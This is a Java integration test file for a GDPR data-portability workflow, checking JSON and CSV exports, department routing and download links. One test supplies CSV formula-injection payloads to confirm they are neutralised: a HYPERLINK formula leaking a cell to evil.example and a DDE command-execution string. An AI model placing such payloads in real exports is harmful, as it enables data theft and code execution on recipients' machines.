package org.dsrflow.response;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.task.Task;
import org.dsrflow.intake.NewRequest;
import org.dsrflow.intake.RequestIntakeService;
import org.dsrflow.process.RequestProcessAdapter;
import org.dsrflow.request.Channel;
import org.dsrflow.testsupport.DepartmentWork;
import org.dsrflow.testsupport.Http;
import org.dsrflow.testsupport.Jobs;
import org.dsrflow.testsupport.Links;
import org.dsrflow.testsupport.Mails;
import org.dsrflow.testsupport.Requests;
import org.dsrflow.testsupport.SmtpIntegrationTest;
import org.dsrflow.testsupport.WithGreenMail;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Data portability (Art. 20): only the categories the register marks portable go to the
 * departments; the requester gets them as JSON and CSV behind the expiring download link, and the
 * answer names the requested categories outside the right.
 */
@SmtpIntegrationTest
class PortabilityTest extends WithGreenMail {

    @LocalServerPort
    int port;
    @Autowired
    RequestIntakeService intake;
    @Autowired
    RequestProcessAdapter process;
    @Autowired
    ManagementService management;
    @Autowired
    TaskService tasks;
    @Autowired
    org.camunda.bpm.engine.FormService forms;

    @ParameterizedTest(name = "in {0}")
    @CsvSource(delimiter = '|', value = {
            "en|Contact details|Communication (Answering you and following up; Improving our services)|data portability covers only data you gave us",
            "da|Kontaktoplysninger|Kommunikation (Svare dig og følge op; Forbedre vores tjenester)|retten til dataportabilitet kun gælder oplysninger"})
    void onlyPortableDataIsPackagedAsJsonAndCsvAndTheRestIsNamedWithItsPurposes(String language, String contact,
                                                                              String communication, String why) throws Exception {
        DepartmentWork work = new DepartmentWork(tasks, management);
        String reference = Requests.confirmed(intake, management, process, new NewRequest("PORTABILITY", "Lars \"Lasse\" Holm",
                "lars." + language + "@example.com", "DK", language, List.of("contact", "communication"), null));

        // Communication is portable for its testimonials only (consent); its other purposes (legitimate interest) are not.
        List<String> departments = work.tasks(reference).stream().map(work::department).toList();
        assertThat(departments).containsExactlyInAnyOrder("sales", "marketing", "support", "finance", "webdigital");
        for (Task task : work.tasks(reference)) {
            if (!work.categoriesHeld(task).contains("contact")) {
                work.complete(task, Map.of("found", "no"));
                continue;
            }
            work.complete(task, Map.of("found", "yes", "contact",
                    Map.of("data", "name,email\n\"Lars \"\"Lasse\"\" Holm\",lars@example.com (" + work.department(task) + ")")));
        }
        work.approve(reference);

        String answer = Mails.everything(Mails.lastTo(greenMail, "lars." + language + "@example.com"));
        assertThat(answer).contains(reference, contact, communication, why, "format=json", "format=csv");
        String csvPath = Mails.linkPath(Mails.text(Mails.lastTo(greenMail, "lars." + language + "@example.com")), "/download\\?token=[A-Za-z0-9_-]+&format=csv");
        Http http = new Http(port);
        Http.Response csv = Links.download(http, csvPath, "csv");
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.header("Content-Type")).startsWith("text/csv");
        List<List<String>> rows = parseCsv(csv.body());
        assertThat(rows.get(0)).containsExactly("category", "department", "data", "source");
        assertThat(rows.subList(1, rows.size())).hasSize(4).allSatisfy(row -> {
            assertThat(row.get(0)).isEqualTo("contact");
            assertThat(row.get(2)).startsWith("name,email\n\"Lars \"\"Lasse\"\" Holm\",lars@example.com (");
        });
        JsonNode json = new ObjectMapper().readTree(Links.download(http, csvPath, "json").body());
        assertThat(json.get("type").asText()).isEqualTo("PORTABILITY");
        assertThat(json.get("categories")).hasSize(1);
        assertThat(json.get("categories").get(0).get("id").asText()).isEqualTo("contact");
        assertThat(json.get("notPortable").get(0).asText()).isEqualTo(communication);
    }

    /**
     * Art. 20(1)(a), WP242 rev.01 section III: testimonials the person gave on consent are portable, the same category's
     * data kept for legitimate interests is not; the departments holding communication are asked, and their form names
     * the purpose it covers only.
     */
    @org.junit.jupiter.api.Test
    void aPortabilityRequestAboutCommunicationAsksItsDepartmentsForTheTestimonialsOnly() throws Exception {
        DepartmentWork work = new DepartmentWork(tasks, management);
        String reference = Requests.confirmed(intake, management, process, new NewRequest("PORTABILITY", "Tove Berg",
                Requests.newAddress("tove"), "SE", "en", List.of("communication"), null));

        assertThat(work.tasks(reference).stream().map(work::department).toList())
                .containsExactlyInAnyOrder("marketing", "support", "webdigital");
        Task marketing = work.task(reference, "marketing");
        assertThat(work.categoriesHeld(marketing)).asList().containsExactly("communication");
        assertThat(new String(forms.getDeployedTaskForm(marketing.getId()).readAllBytes()))
                .contains("\"id\" : \"department-portability\"", "Publishing testimonials you agreed to")
                .doesNotContain("Answering you and following up", "Improving our services");
    }

    @org.junit.jupiter.api.Test
    void aSpreadsheetFormulaInTheDataArrivesNeutralisedInTheCsv() throws Exception {
        DepartmentWork work = new DepartmentWork(tasks, management);
        String reference = Requests.confirmed(intake, management, process, new NewRequest("PORTABILITY", "Mallory Formula",
                "mallory@example.com", "SE", "en", List.of("contact"), null));
        List<String> cells = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1+1)");
        List<Task> departments = work.tasks(reference);
        for (int i = 0; i < departments.size(); i++) {
            work.complete(departments.get(i), Map.of("found", "yes", "contact",
                    Map.of("data", cells.get(i % cells.size()), "source", "=cmd")));
        }
        work.approve(reference);

        List<List<String>> rows = parseCsv(csv(Mails.text(Mails.lastAbout(greenMail, reference))));
        List<String> data = rows.subList(1, rows.size()).stream().map(row -> row.get(2)).toList();
        assertThat(data).hasSize(departments.size()).allSatisfy(cell -> assertThat(cell).startsWith("'"));
        assertThat(data).contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+1+cmd|' /C calc'!A0",
                "'-2+3", "'@SUM(1+1)");
        assertThat(rows.subList(1, rows.size())).allSatisfy(row -> assertThat(row.get(3)).isEqualTo("'=cmd"));
    }

    /** The CSV behind the answer email's download link, as the person downloads it. */
    private String csv(String answer) {
        String csvPath = Mails.linkPath(answer, "/download\\?token=[A-Za-z0-9_-]+&format=csv");
        Http.Response csv = Links.download(new Http(port), csvPath, "csv");
        assertThat(csv.status()).isEqualTo(200);
        return csv.body();
    }

    /** RFC 4180: quoted fields, doubled quotes, CRLF between records, line breaks inside quotes. */
    static List<List<String>> parseCsv(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                field.append(c);
            }
        }
        assertThat(quoted).as("the CSV ends inside a quoted field").isFalse();
        assertThat(row).as("the CSV ends without CRLF").isEmpty();
        return rows;
    }
}
